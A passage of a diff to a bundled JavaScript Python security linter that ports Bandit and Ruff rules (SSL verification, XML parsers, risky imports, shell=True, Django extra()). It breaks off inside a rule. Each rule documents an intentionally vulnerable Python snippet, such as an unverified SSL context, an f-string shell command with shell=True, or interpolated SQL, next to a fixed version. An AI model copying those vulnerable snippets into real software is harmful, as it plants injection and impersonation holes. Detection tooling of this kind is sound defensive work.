@@ -9620,25 +10419,27 @@ const ENTRIES = [
         why: 'A connection made with this context accepts any certificate, so anyone on the path can impersonate the server.',
         example: 'import ssl, urllib.request\n\nctx = ssl._create_unverified_context()\nurllib.request.urlopen(url, context=ctx)',
         fix: 'Use `ssl.create_default_context()`; add a private CA with `cafile=` rather than disabling verification.',
+        fixed: 'import ssl, urllib.request\n\nctx = ssl.create_default_context()\nurllib.request.urlopen(url, context=ctx)',
         says: 'creates an SSL context that does not verify certificates or host names',
     },
 ];
 function xmlEntries() {
+    // One row per parser module; `defused` is the defusedxml function the fixed example calls.
     const table = [
-        ['B313', 'S313', 'xml.etree.cElementTree', 'CElementTree', (0, common_1.qualify)('xml.etree.cElementTree', XML_PARSE)],
-        ['B314', 'S314', 'xml.etree.ElementTree', 'ElementTree', (0, common_1.qualify)('xml.etree.ElementTree', XML_PARSE)],
-        ['B315', 'S315', 'xml.sax.expatreader', 'ExpatReader', ['xml.sax.expatreader.create_parser']],
-        ['B316', 'S316', 'xml.dom.expatbuilder', 'ExpatBuilder', (0, common_1.qualify)('xml.dom.expatbuilder', 'parse parseString')],
-        ['B317', 'S317', 'xml.sax', 'Sax', (0, common_1.qualify)('xml.sax', 'parse parseString make_parser')],
-        ['B318', 'S318', 'xml.dom.minidom', 'Minidom', (0, common_1.qualify)('xml.dom.minidom', 'parse parseString')],
-        ['B319', 'S319', 'xml.dom.pulldom', 'Pulldom', (0, common_1.qualify)('xml.dom.pulldom', 'parse parseString')],
-        ['B320', '', 'lxml.etree', 'Lxml', (0, common_1.qualify)('lxml.etree', 'parse fromstring RestrictedElement GlobalParserTLS getDefaultParser check_docinfo')],
+        { id: 'xml-etree-celementtree-parse', name: 'XmlCElementTreeParse', bandit: 'B313', ruff: 'S313', module: 'xml.etree.cElementTree', functions: (0, common_1.qualify)('xml.etree.cElementTree', XML_PARSE), defused: 'defusedxml.ElementTree.parse' },
+        { id: 'xml-etree-elementtree-parse', name: 'XmlElementTreeParse', bandit: 'B314', ruff: 'S314', module: 'xml.etree.ElementTree', functions: (0, common_1.qualify)('xml.etree.ElementTree', XML_PARSE), defused: 'defusedxml.ElementTree.parse' },
+        { id: 'xml-sax-expatreader-parse', name: 'XmlExpatReaderParse', bandit: 'B315', ruff: 'S315', module: 'xml.sax.expatreader', functions: ['xml.sax.expatreader.create_parser'], defused: 'defusedxml.expatreader.create_parser' },
+        { id: 'xml-dom-expatbuilder-parse', name: 'XmlExpatBuilderParse', bandit: 'B316', ruff: 'S316', module: 'xml.dom.expatbuilder', functions: (0, common_1.qualify)('xml.dom.expatbuilder', 'parse parseString'), defused: 'defusedxml.expatbuilder.parse' },
+        { id: 'xml-sax-parse', name: 'XmlSaxParse', bandit: 'B317', ruff: 'S317', module: 'xml.sax', functions: (0, common_1.qualify)('xml.sax', 'parse parseString make_parser'), defused: 'defusedxml.sax.parse' },
+        { id: 'xml-dom-minidom-parse', name: 'XmlMinidomParse', bandit: 'B318', ruff: 'S318', module: 'xml.dom.minidom', functions: (0, common_1.qualify)('xml.dom.minidom', 'parse parseString'), defused: 'defusedxml.minidom.parse' },
+        { id: 'xml-dom-pulldom-parse', name: 'XmlPulldomParse', bandit: 'B319', ruff: 'S319', module: 'xml.dom.pulldom', functions: (0, common_1.qualify)('xml.dom.pulldom', 'parse parseString'), defused: 'defusedxml.pulldom.parse' },
+        { id: 'lxml-etree-parse', name: 'XmlLxmlParse', bandit: 'B320', module: 'lxml.etree', functions: (0, common_1.qualify)('lxml.etree', 'parse fromstring RestrictedElement GlobalParserTLS getDefaultParser check_docinfo'), defused: 'defusedxml.ElementTree.parse' },
     ];
-    return table.map(([bandit, ruff, module, name, functions]) => ({
-        id: `${module.replace(/\./g, '-').toLowerCase()}-parse`,
-        name: `Xml${name}Parse`,
+    return table.map(({ id, name, bandit, ruff, module, functions, defused }) => ({
+        id,
+        name,
         bandit,
-        ruff: ruff || undefined,
+        ruff,
         severity: 'MEDIUM',
         cwe: [20],
         category: 'xml',
@@ -9647,71 +10448,53 @@ function xmlEntries() {
         why: `The standard XML parsers (here \`${module}\`) expand entities, so a small document can grow into gigabytes in memory ("billion laughs"), and some parsers also fetch external entities or DTDs. Parsing XML from outside the program with them is a denial-of-service risk.`,
         example: `import ${module}\n\ndoc = ${module}.${functions[0].split('.').pop()}(uploaded)`,
         fix: 'Parse untrusted XML with `defusedxml` (`defusedxml.ElementTree.parse`, `defusedxml.minidom.parseString`, ...), which refuses the dangerous constructs.',
+        fixed: `import ${defused.slice(0, defused.lastIndexOf('.'))}\n\ndoc = ${defused}(uploaded)`,
         notReported: ['Calls through `defusedxml`.', ...(ruff ? [] : ['Ruff 0.17 no longer has this check (lxml is safe by default in recent versions).'])],
         says: `parses XML with \`${module}\`, which is open to entity-expansion attacks; use defusedxml for untrusted data`,
     }));
 }
-const INSECURE_HASHLIB = (0, common_1.callRule)({
-    id: 'insecure-hashlib-function', name: 'InsecureHashlibFunction', bandit: 'B324', ruff: 'S324',
-    severity: 'HIGH', confidence: 'HIGH', category: 'cryptography', cwe: [327],
-    functions: ['hashlib.new', ...(0, common_1.qualify)('hashlib', 'md4 md5 sha sha1')],
-    check: (call) => {
-        if (notForSecurity(call))
-            return false;
-        if (call.assumedName !== 'hashlib.new')
-            return true;
-        const name = (0, calls_1.argumentAt)(call.node, 0, 'name');
-        const value = name ? (0, calls_1.stringLiteralValue)(name) : undefined;
-        return value !== undefined && INSECURE_HASHES.has(value.toLowerCase()) ? name : false;
-    },
-    message: (call) => `${(0, common_1.callName)(call)} uses a broken hash algorithm; pass \`usedforsecurity=False\` if it is not used for security, or use SHA-256`,
-    short: 'hashlib with MD4, MD5 or SHA-1 used for security',
-    full: 'hashlib is called for MD4, MD5 or SHA-1 (directly or through hashlib.new) without usedforsecurity=False. These algorithms have practical collision attacks and must not protect integrity or passwords.',
-    title: 'A broken hash algorithm from hashlib',
-    why: 'MD4, MD5 and SHA-1 are broken for security purposes: collisions can be made on demand, and they are fast enough to brute-force passwords. Python lets code declare a non-security use with `usedforsecurity=False` (3.9+).',
-    example: 'import hashlib\n\nsignature = hashlib.md5(secret + body).hexdigest()',
-    fix: 'Use `hashlib.sha256` (or `hmac` with SHA-256 for message authentication, `hashlib.scrypt` for passwords). When the hash is only a checksum or cache key, say so: `hashlib.md5(data, usedforsecurity=False)`.',
-    notReported: ['`usedforsecurity=False`.', '`hashlib.new(name)` where the name is not a literal naming a broken algorithm.', 'SHA-2, SHA-3 and BLAKE2.'],
-});
-function entryRule(entry) {
-    const rule = (0, common_1.callRule)({
+/** The spec every entry's rule has: its metadata and docs from the table row. */
+function entrySpec(entry) {
+    return {
         id: entry.id, name: entry.name, bandit: entry.bandit, ruff: entry.ruff, severity: entry.severity, confidence: 'HIGH',
-        category: entry.category, cwe: entry.cwe, functions: entry.functions,
-        check: entry.check,
+        category: entry.category, cwe: entry.cwe,
         short: entry.short,
         full: `${entry.why} Reported for calls to ${entry.modules ? `any function of \`${entry.modules.join('`, `')}\`` : entry.functions.slice(0, 4).map((f) => `\`${f}\``).join(', ') + (entry.functions.length > 4 ? ' and related functions' : '')}.`,
         title: entry.short.charAt(0).toUpperCase() + entry.short.slice(1),
         why: entry.why,
         example: entry.example,
         fix: entry.fix,
+        fixed: entry.fixed,
         notReported: [
             'Calls whose function does not resolve surely to one of the listed names through the file\'s imports (a name rebound, or imported differently in different places).',
             ...(entry.notReported ?? []),
         ],
-        message: (call) => `${(0, common_1.callName)(call)} ${entry.says}`,
-    });
-    if (!entry.modules)
-        return rule;
-    // Module-wide entries: every call into the module.
+    };
+}
+function entryRule(entry) {
+    const spec = entrySpec(entry);
     const modules = entry.modules;
-    return {
-        ...rule,
+    if (!modules)
+        return (0, common_1.callRule)({ ...spec, functions: entry.functions, check: entry.check, message: (call) => `${(0, common_1.callName)(call)} ${entry.says}` });
+    // Module-wide entries: every call into the module.
+    return (0, common_1.securityRule)({
+        ...spec,
+        uses: [calls_1.calls],
         create(context) {
             return {
                 end() {
-                    const model = context.analysis('calls');
-                    for (const call of model.calls) {
+                    for (const call of context.analysis(calls_1.calls).calls) {
                         const q = call.assumedName;
                         if (q && modules.some((m) => q.startsWith(`${m}.`)))
-                            context.report(rule.meta, call.callee, `${(0, common_1.callName)(call)} ${entry.says}`);
+                            context.report(call.callee, `${(0, common_1.callName)(call)} ${entry.says}`);
                     }
                 },
             };
         },
-    };
+    });
 }
-/** B301-B324: one rule per blacklist entry. */
-exports.BLACKLIST_CALL_RULES = [...ENTRIES.map(entryRule), INSECURE_HASHLIB];
+/** B301-B323: one rule per blacklist entry. */
+exports.BLACKLIST_CALL_RULES = ENTRIES.map(entryRule);
 
 
 /***/ }),
@@ -9722,38 +10505,39 @@ exports.BLACKLIST_CALL_RULES = [...ENTRIES.map(entryRule), INSECURE_HASHLIB];
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.BLACKLIST_IMPORT_RULES = void 0;
+const define_1 = __nccwpck_require__(5544);
 const common_1 = __nccwpck_require__(8925);
 const XML_WHY = 'The standard XML parsers expand entities and may fetch external resources, which lets a hostile document exhaust memory or reach the network. The import itself is harmless; it marks code to check for parsing of untrusted XML.';
 const XML_FIX = 'Parse untrusted XML with `defusedxml`, which offers the same interfaces with the dangerous features refused.';
 const ENTRIES = [
     { bandit: 'B401', ruff: 'S401', id: 'telnetlib-import', name: 'TelnetlibImport', severity: 'HIGH', modules: ['telnetlib'], cwe: [319], category: 'network',
-        what: 'telnetlib', why: 'Telnet sends credentials and data unencrypted.', fix: 'Use SSH (`paramiko`, `asyncssh`).' },
+        what: 'telnetlib', why: 'Telnet sends credentials and data unencrypted.', fix: 'Use SSH (`paramiko`, `asyncssh`).', fixed: 'import paramiko' },
     { bandit: 'B402', ruff: 'S402', id: 'ftplib-import', name: 'FtplibImport', severity: 'HIGH', modules: ['ftplib'], cwe: [319], category: 'network',
-        what: 'ftplib', why: 'Plain FTP sends credentials and files unencrypted.', fix: 'Use SFTP/SCP, or `ftplib.FTP_TLS` with a protected data channel.' },
+        what: 'ftplib', why: 'Plain FTP sends credentials and files unencrypted.', fix: 'Use SFTP/SCP, or `ftplib.FTP_TLS` with a protected data channel.', fixed: 'import paramiko' },
     { bandit: 'B403', ruff: 'S403', id: 'pickle-import', name: 'PickleImport', severity: 'LOW', modules: ['pickle', 'cPickle', 'dill', 'shelve'], cwe: [502], category: 'deserialization',
-        what: 'pickle, cPickle, dill or shelve', why: 'Loading a pickle can run arbitrary code; the module is a risk wherever its input could come from outside the program.', fix: 'Prefer `json` or another data-only format for anything that crosses a trust boundary.' },
+        what: 'pickle, cPickle, dill or shelve', why: 'Loading a pickle can run arbitrary code; the module is a risk wherever its input could come from outside the program.', fix: 'Prefer `json` or another data-only format for anything that crosses a trust boundary.', fixed: 'import json' },
     { bandit: 'B404', ruff: 'S404', id: 'subprocess-import', name: 'SubprocessImport', severity: 'LOW', modules: ['subprocess'], cwe: [78], category: 'injection',
-        what: 'subprocess', why: 'Starting processes is where command injection happens; the import marks code whose commands should be reviewed.', fix: 'Pass commands as argument lists, never with `shell=True` on built strings; dismiss the alert once reviewed.' },
+        what: 'subprocess', why: 'Starting processes is where command injection happens; the import marks code whose commands should be reviewed.', fix: 'Pass commands as argument lists, never with `shell=True` on built strings; dismiss the alert once reviewed.', fixed: 'import shutil' },
     { bandit: 'B405', ruff: 'S405', id: 'xml-etree-import', name: 'XmlEtreeImport', severity: 'LOW', modules: ['xml.etree.cElementTree', 'xml.etree.ElementTree'], cwe: [20], category: 'xml',
-        what: 'xml.etree', why: XML_WHY, fix: XML_FIX },
+        what: 'xml.etree', why: XML_WHY, fix: XML_FIX, fixed: 'import defusedxml.ElementTree' },
     { bandit: 'B406', ruff: 'S406', id: 'xml-sax-import', name: 'XmlSaxImport', severity: 'LOW', modules: ['xml.sax'], cwe: [20], category: 'xml',
-        what: 'xml.sax', why: XML_WHY, fix: XML_FIX },
+        what: 'xml.sax', why: XML_WHY, fix: XML_FIX, fixed: 'import defusedxml.sax' },
     { bandit: 'B407', ruff: 'S407', id: 'xml-expat-import', name: 'XmlExpatImport', severity: 'LOW', modules: ['xml.dom.expatbuilder'], cwe: [20], category: 'xml',
-        what: 'xml.dom.expatbuilder', why: XML_WHY, fix: XML_FIX },
+        what: 'xml.dom.expatbuilder', why: XML_WHY, fix: XML_FIX, fixed: 'import defusedxml.expatbuilder' },
     { bandit: 'B408', ruff: 'S408', id: 'xml-minidom-import', name: 'XmlMinidomImport', severity: 'LOW', modules: ['xml.dom.minidom'], cwe: [20], category: 'xml',
-        what: 'xml.dom.minidom', why: XML_WHY, fix: XML_FIX },
+        what: 'xml.dom.minidom', why: XML_WHY, fix: XML_FIX, fixed: 'import defusedxml.minidom' },
     { bandit: 'B409', ruff: 'S409', id: 'xml-pulldom-import', name: 'XmlPulldomImport', severity: 'LOW', modules: ['xml.dom.pulldom'], cwe: [20], category: 'xml',
-        what: 'xml.dom.pulldom', why: XML_WHY, fix: XML_FIX },
+        what: 'xml.dom.pulldom', why: XML_WHY, fix: XML_FIX, fixed: 'import defusedxml.pulldom' },
     { bandit: 'B410', ruff: 'S410', id: 'lxml-import', name: 'LxmlImport', severity: 'LOW', modules: ['lxml'], cwe: [20], category: 'xml',
-        what: 'lxml', why: XML_WHY, fix: XML_FIX },
+        what: 'lxml', why: XML_WHY, fix: XML_FIX, fixed: 'import defusedxml.ElementTree' },
     { bandit: 'B411', ruff: 'S411', id: 'xmlrpc-import', name: 'XmlrpcImport', severity: 'HIGH', modules: ['xmlrpc', 'xmlrpclib'], submodules: true, cwe: [20], category: 'xml',
-        what: 'xmlrpc', why: 'XML-RPC parses XML from the network with the standard parsers, open to entity-expansion attacks.', fix: 'Call `defusedxml.xmlrpc.monkey_patch()` before use, or use another RPC format.' },
+        what: 'xmlrpc', why: 'XML-RPC parses XML from the network with the standard parsers, open to entity-expansion attacks.', fix: 'Call `defusedxml.xmlrpc.monkey_patch()` before use, or use another RPC format.', fixed: 'import grpc' },
     { bandit: 'B412', ruff: 'S412', id: 'httpoxy-import', name: 'HttpoxyImport', severity: 'HIGH', modules: ['wsgiref.handlers.CGIHandler', 'twisted.web.twcgi.CGIScript', 'twisted.web.twcgi.CGIDirectory'], cwe: [284], category: 'network',
-        what: 'a CGI handler (wsgiref CGIHandler, twisted CGIScript)', why: 'CGI handlers put the request\'s `Proxy:` header into the `HTTP_PROXY` environment variable, so a client can redirect the server\'s outgoing HTTP requests (httpoxy).', fix: 'Do not run under CGI; if you must, strip the `Proxy` header before the handler sees it.' },
+        what: 'a CGI handler (wsgiref CGIHandler, twisted CGIScript)', why: 'CGI handlers put the request\'s `Proxy:` header into the `HTTP_PROXY` environment variable, so a client can redirect the server\'s outgoing HTTP requests (httpoxy).', fix: 'Do not run under CGI; if you must, strip the `Proxy` header before the handler sees it.', fixed: 'import waitress' },
     { bandit: 'B413', ruff: 'S413', id: 'pycrypto-import', name: 'PycryptoImport', severity: 'HIGH', modules: ['Crypto.Cipher', 'Crypto.Hash', 'Crypto.IO', 'Crypto.Protocol', 'Crypto.PublicKey', 'Crypto.Random', 'Crypto.Signature', 'Crypto.Util'], cwe: [327], category: 'cryptography',
-        what: 'pyCrypto', why: 'pyCrypto is unmaintained and has known vulnerabilities.', fix: 'Use `cryptography`, or `pycryptodome` (which installs as `Cryptodome` or as a drop-in `Crypto`).' },
+        what: 'pyCrypto', why: 'pyCrypto is unmaintained and has known vulnerabilities.', fix: 'Use `cryptography`, or `pycryptodome` (which installs as `Cryptodome` or as a drop-in `Crypto`).', fixed: 'from cryptography.hazmat.primitives.ciphers.aead import AESGCM' },
     { bandit: 'B415', ruff: 'S415', id: 'pyghmi-import', name: 'PyghmiImport', severity: 'HIGH', modules: ['pyghmi'], cwe: [319], category: 'network',
-        what: 'pyghmi (IPMI)', why: 'IPMI is a weak protocol: its authentication can be attacked offline and it is often unencrypted.', fix: 'Manage hardware over an encrypted protocol (Redfish over HTTPS, SSH) and keep IPMI on an isolated network.' },
+        what: 'pyghmi (IPMI)', why: 'IPMI is a weak protocol: its authentication can be attacked offline and it is often unencrypted.', fix: 'Manage hardware over an encrypted protocol (Redfish over HTTPS, SSH) and keep IPMI on an isolated network.', fixed: 'import redfish' },
 ];
 function matches(name, entry) {
     return entry.modules.some((m) => name === m || (entry.submodules === true && name.startsWith(`${m}.`)));
@@ -9784,7 +10568,7 @@ function importedNames(node) {
     return out;
 }
 function importRule(entry) {
-    const meta = (0, common_1.securityMeta)({
+    const spec = {
         id: entry.id, name: entry.name, bandit: entry.bandit, ruff: entry.ruff, severity: entry.severity, confidence: 'HIGH',
         category: entry.category, cwe: entry.cwe,
         short: `import of ${entry.what}`,
@@ -9793,13 +10577,14 @@ function importRule(entry) {
         why: `${entry.why} Bandit reports the import so that the code using it gets a review.`,
         example: `import ${entry.modules[0]}`,
         fix: entry.fix,
+        fixed: entry.fixed,
         notReported: ['Relative imports (`from . import x`): the package is not known.', `Modules other than ${entry.modules.map((m) => `\`${m}\``).join(', ')}${entry.submodules ? ' and their submodules' : ' (submodules such as `' + entry.modules[0] + '.x` are other modules)'}.`],
         note: 'Off by default: an import is a reason to review the code that uses it, not a problem by itself, and the call rules report the dangerous uses. Turn it on with `select` (its id, its alias, or `security`).',
-    });
-    // An import marks code for review; the call rules report the dangerous uses. Opt-in, as in Ruff.
-    meta.enabledByDefault = false;
-    return {
-        meta,
+    };
+    return (0, define_1.defineRule)({
+        // An import marks code for review; the call rules report the dangerous uses. Opt-in, as in Ruff.
+        meta: { ...(0, common_1.securityMeta)(spec), enabledByDefault: false },
+        docs: (0, common_1.securityDocs)(spec),
         create(context) {
             const check = (node) => {
                 const found = importedNames(node).filter(([name]) => matches(name, entry));
@@ -9809,17 +10594,175 @@ function importRule(entry) {
                     if (seen.has(at.startIndex))
                         continue;
                     seen.add(at.startIndex);
-                    context.report(meta, at, `\`${name}\` is imported: ${entry.why}`);
+                    context.report(at, `\`${name}\` is imported: ${entry.why}`);
                     if (node.type === 'import_from_statement')
                         break;
                 }
             };
             return { import_statement: check, import_from_statement: check };
         },
-    };
+    });
 }
 /** B401-B415: one rule per blacklisted import. */
 exports.BLACKLIST_IMPORT_RULES = ENTRIES.map(importRule);
+
+
+/***/ }),
+
+/***/ 2510:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.BROAD_EXCEPT_FIX = void 0;
+exports.broadExceptOnly = broadExceptOnly;
+const calls_1 = __nccwpck_require__(4463);
+const literals_1 = __nccwpck_require__(8436);
+/** The fix both rules give. */
+exports.BROAD_EXCEPT_FIX = 'Catch the specific exceptions you expect, and log the others (`logger.exception(...)`) or let them propagate. Where ignoring really is right, `contextlib.suppress(SpecificError)` says so explicitly.';
+/** The exception types of an except clause (none for a bare `except:`). */
+function exceptTypes(clause) {
+    const out = [];
+    for (const child of clause.namedChildren) {
+        if (!child || child.type === 'block' || child.type === 'comment')
+            continue;
+        const expr = child.type === 'as_pattern' ? child.namedChildren[0] : child;
+        if (!expr)
+            continue;
+        const inner = (0, literals_1.unparenthesize)(expr);
+        if (inner.type === 'tuple') {
+            for (const item of inner.namedChildren)
+                if (item && item.type !== 'comment')
+                    out.push(item);
+        }
+        else
+            out.push(inner);
+    }
+    return out;
+}
+/** `uses` and `create` of the rule reporting broad handlers whose only statement is `kind`. */
+function broadExceptOnly(kind) {
+    return {
+        uses: [calls_1.calls],
+        create(context) {
+            const clauses = [];
+            const visit = (node) => {
+                clauses.push(node);
+            };
+            return {
+                except_clause: visit,
+                except_group_clause: visit,
+                end() {
+                    const model = context.analysis(calls_1.calls);
+                    for (const clause of clauses) {
+                        const body = clause.namedChildren.find((c) => c?.type === 'block');
+                        const statements = body ? body.namedChildren.filter((c) => c && c.type !== 'comment') : [];
+                        if (statements.length !== 1 || statements[0].type !== `${kind}_statement`)
+                            continue;
+                        const types = exceptTypes(clause);
+                        const broad = types.length === 0 || types.some((t) => {
+                            const q = model.resolveAssumed(t);
+                            return q === 'builtins.Exception' || q === 'builtins.BaseException' || (q === undefined && (t.text === 'Exception' || t.text === 'BaseException'));
+                        });
+                        if (!broad)
+                            continue;
+                        context.report(clause.child(0) ?? clause, `\`except\` that only \`${kind}\`es silently ignores every error; catch specific exceptions or log them`);
+                    }
+                },
+            };
+        },
+    };
+}
+
+
+/***/ }),
+
+/***/ 6587:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.callWithShellTrue = void 0;
+/** Bandit B604 / Ruff S604: `shell=True` passed to a function outside `subprocess`. */
+const calls_1 = __nccwpck_require__(4463);
+const common_1 = __nccwpck_require__(8925);
+const apis_1 = __nccwpck_require__(1813);
+const commands_1 = __nccwpck_require__(2962);
+exports.callWithShellTrue = (0, common_1.securityRule)({
+    id: 'call-with-shell-true', name: 'CallWithShellTrue', bandit: 'B604', ruff: 'S604', severity: 'MEDIUM', confidence: 'LOW',
+    category: 'injection', cwe: [78],
+    short: 'shell=True passed to a function outside subprocess',
+    full: 'A function that is not one of the subprocess functions is called with shell=True; it probably runs its command through a shell, open to shell injection.',
+    title: '`shell=True` passed to some other function',
+    why: 'Wrappers around `subprocess` often forward `shell=True`. The command then goes through `/bin/sh`, with the same injection risk as calling `subprocess` with a shell directly.',
+    example: 'run_command(f"convert {name} out.png", shell=True)',
+    fix: 'Pass the command as a list and drop `shell=True`.',
+    fixed: 'run_command(["convert", name, "out.png"])',
+    notReported: ['`subprocess` functions: those are B602/B603.', '`shell=` values that are not a true constant.'],
+    uses: [calls_1.calls],
+    create(context) {
+        return {
+            end() {
+                const skip = new Set(apis_1.SUBPROCESS_FUNCTIONS);
+                for (const call of context.analysis(calls_1.calls).calls) {
+                    if (call.assumedName && skip.has(call.assumedName))
+                        continue;
+                    if ((0, commands_1.trueShell)(call))
+                        context.report(call.callee, `${(0, common_1.callName)(call)} is called with \`shell=True\`: the command may go through a shell`);
+                }
+            },
+        };
+    },
+});
+
+
+/***/ }),
+
+/***/ 2962:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.isLiteralCommand = isLiteralCommand;
+exports.trueShell = trueShell;
+exports.subprocessShellCalls = subprocessShellCalls;
+exports.shellText = shellText;
+const arguments_1 = __nccwpck_require__(9950);
+const literals_1 = __nccwpck_require__(8436);
+const apis_1 = __nccwpck_require__(1813);
+/** True when the command cannot change at run time: literal strings, or a list/tuple of them. */
+function isLiteralCommand(command) {
+    const expr = (0, literals_1.unparenthesize)(command);
+    if ((0, literals_1.isPlainStringLiteral)(expr, { allowBytes: true }))
+        return true;
+    if (expr.type === 'list' || expr.type === 'tuple') {
+        return expr.namedChildren.every((item) => !item || item.type === 'comment' || (0, literals_1.isPlainStringLiteral)(item, { allowBytes: true }));
+    }
+    return false;
+}
+/** The value of the call's `shell=` argument when it is a constant known to be true. */
+function trueShell(call) {
+    const shell = (0, arguments_1.keywordValue)(call.node, 'shell');
+    return shell && (0, literals_1.truthiness)(shell) === true ? shell : undefined;
+}
+/** The calls to `subprocess` functions (surely resolved) with a true `shell=` and a visible command. */
+function subprocessShellCalls(model) {
+    const out = [];
+    for (const call of model.callsTo(apis_1.SUBPROCESS_FUNCTIONS)) {
+        const shell = trueShell(call);
+        if (!shell)
+            continue;
+        const command = (0, arguments_1.argumentAt)(call.node, 0, 'args');
+        if (command)
+            out.push({ call, shell, command });
+    }
+    return out;
+}
+/** `shell=True` as written, or a generic wording when the value is long. */
+function shellText(value) {
+    const text = value.text.replace(/\s+/g, ' ');
+    return text.length <= 20 ? `\`shell=${text}\`` : 'a true `shell=` value';
+}
 
 
 /***/ }),
@@ -9830,42 +10773,49 @@ exports.BLACKLIST_IMPORT_RULES = ENTRIES.map(importRule);
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.securityMeta = securityMeta;
+exports.securityDocs = securityDocs;
+exports.securityRule = securityRule;
 exports.callName = callName;
 exports.callRule = callRule;
 exports.qualify = qualify;
 exports.importsModule = importsModule;
 const calls_1 = __nccwpck_require__(4463);
+const define_1 = __nccwpck_require__(5544);
 const severity_1 = __nccwpck_require__(2640);
-/** The RuleMeta of a security rule: severity and precision from Bandit's grading, help from the spec. */
+/** The metadata of a security rule: severity and precision from Bandit's grading. */
 function securityMeta(spec) {
-    const help = [
-        `# ${spec.title}`,
-        spec.why,
-        '## Example',
-        '```python\n' + spec.example.trim() + '\n```',
-        '## How to fix',
-        spec.fix,
-        '## What is not reported',
-        spec.notReported.map((line) => `- ${line}`).join('\n'),
-        ...(spec.note ? [spec.note] : []),
-        '## Grading',
-        `Bandit grades this check ${spec.severity.toLowerCase()} severity, ${spec.confidence.toLowerCase()} confidence: ` +
-            `security-severity ${severity_1.SECURITY_SEVERITY[spec.severity].toFixed(1)}, precision \`${severity_1.PRECISION_FOR_CONFIDENCE[spec.confidence]}\` ` +
-            `(see docs/severity.md). Bandit id \`${spec.bandit}\`${spec.ruff ? `, Ruff code \`${spec.ruff}\`` : ' (Ruff has no equivalent)'}.`,
-    ].join('\n\n');
     return {
         id: spec.id,
         name: spec.name,
         kind: 'security',
         shortDescription: spec.short,
         fullDescription: spec.full,
-        help,
         category: spec.category,
         aliases: spec.ruff ? [spec.bandit, spec.ruff] : [spec.bandit],
         precision: severity_1.PRECISION_FOR_CONFIDENCE[spec.confidence],
         securitySeverity: severity_1.SECURITY_SEVERITY[spec.severity],
         cwe: spec.cwe,
     };
+}
+/** The documentation of a security rule: the spec's sections, then how Bandit grades it. */
+function securityDocs(spec) {
+    const grading = '## Grading\n\n' +
+        `Bandit grades this check ${spec.severity.toLowerCase()} severity, ${spec.confidence.toLowerCase()} confidence: ` +
+        `security-severity ${severity_1.SECURITY_SEVERITY[spec.severity].toFixed(1)}, precision \`${severity_1.PRECISION_FOR_CONFIDENCE[spec.confidence]}\` ` +
+        `(see docs/severity.md). Bandit id \`${spec.bandit}\`${spec.ruff ? `, Ruff code \`${spec.ruff}\`` : ' (Ruff has no equivalent)'}.`;
+    return {
+        title: spec.title,
+        why: spec.why,
+        example: spec.example,
+        fix: spec.fix,
+        fixed: spec.fixed,
+        notReported: spec.notReported,
+        more: [spec.note, grading].filter(Boolean).join('\n\n'),
+    };
+}
+/** A security rule with its own visitor: the spec's metadata and docs, `defineRule` for the rest. */
+function securityRule(spec) {
+    return (0, define_1.defineRule)({ meta: securityMeta(spec), docs: securityDocs(spec), uses: spec.uses, create: spec.create });
 }
 /** The call as written, and what it resolves to when that differs: `` `sp.run` (`subprocess.run`) ``. */
 function callName(call) {
@@ -9877,24 +10827,23 @@ function callName(call) {
 }
 /** A rule reporting calls to a fixed set of functions, resolved through the file's imports. */
 function callRule(spec) {
-    const meta = securityMeta(spec);
-    return {
-        meta,
+    return securityRule({
+        ...spec,
         uses: [calls_1.calls],
         create(context) {
             return {
                 end() {
-                    const model = context.analysis('calls');
+                    const model = context.analysis(calls_1.calls);
                     for (const call of model.callsToAssumed(spec.functions)) {
                         const verdict = spec.check ? spec.check(call, model) : true;
                         if (!verdict)
                             continue;
-                        context.report(meta, verdict === true ? call.callee : verdict, spec.message(call));
+                        context.report(verdict === true ? call.callee : verdict, spec.message(call));
                     }
                 },
             };
         },
-    };
+    });
 }
 /** Every qualified name `prefix.name` for the given names. */
 function qualify(prefix, names) {
@@ -9924,14 +10873,179 @@ function importsModule(module) {
 
 /***/ }),
 
-/***/ 6667:
+/***/ 3588:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-exports.groupExecutableFilePermissions = exports.worldWritableFilePermissions = void 0;
-exports.modeValue = modeValue;
+exports.djangoExtra = void 0;
 const calls_1 = __nccwpck_require__(4463);
+const literals_1 = __nccwpck_require__(8436);
+const common_1 = __nccwpck_require__(8925);
+/** A literal string, or a list/tuple/dict made only of literal strings. */
+function allLiteral(node) {
+    const expr = (0, literals_1.unparenthesize)(node);
+    if ((0, literals_1.stringLiteralValue)(expr) !== undefined)
+        return true;
+    if (expr.type === 'list' || expr.type === 'tuple' || expr.type === 'set') {
+        return expr.namedChildren.every((c) => !c || c.type === 'comment' || allLiteral(c));
+    }
+    if (expr.type === 'dictionary') {
+        return expr.namedChildren.every((c) => {
+            if (!c || c.type === 'comment')
+                return true;
+            if (c.type !== 'pair')
+                return false;
+            const value = c.childForFieldName('value');
+            return !!value && allLiteral(value);
+        });
+    }
+    return false;
+}
+exports.djangoExtra = (0, common_1.securityRule)({
+    id: 'django-extra', name: 'DjangoExtra', bandit: 'B610', ruff: 'S610', severity: 'MEDIUM', confidence: 'MEDIUM',
+    category: 'injection', cwe: [89],
+    short: 'Django QuerySet.extra() with SQL that is not a literal',
+    full: 'QuerySet.extra() inserts its select, where, tables and order_by strings into the SQL as they are. Given anything other than literals, it is open to SQL injection.',
+    title: 'Django `extra()` with SQL built at run time',
+    why: '`extra()` pastes its arguments into the generated SQL unescaped. A value from outside the program in `where=` or `select=` can rewrite the query.',
+    example: 'from django.db import models\n\n\nclass Entry(models.Model):\n    headline = models.CharField(max_length=200)\n\n\nentries = Entry.objects.extra(where=[f"headline = \'{headline}\'"])',
+    fix: 'Use the ORM (`filter`, `annotate`, `F`, `Func` expressions); if raw SQL is needed, keep it literal and pass values through `params=`.',
+    fixed: 'from django.db import models\n\n\nclass Entry(models.Model):\n    headline = models.CharField(max_length=200)\n\n\nentries = Entry.objects.filter(headline=headline)',
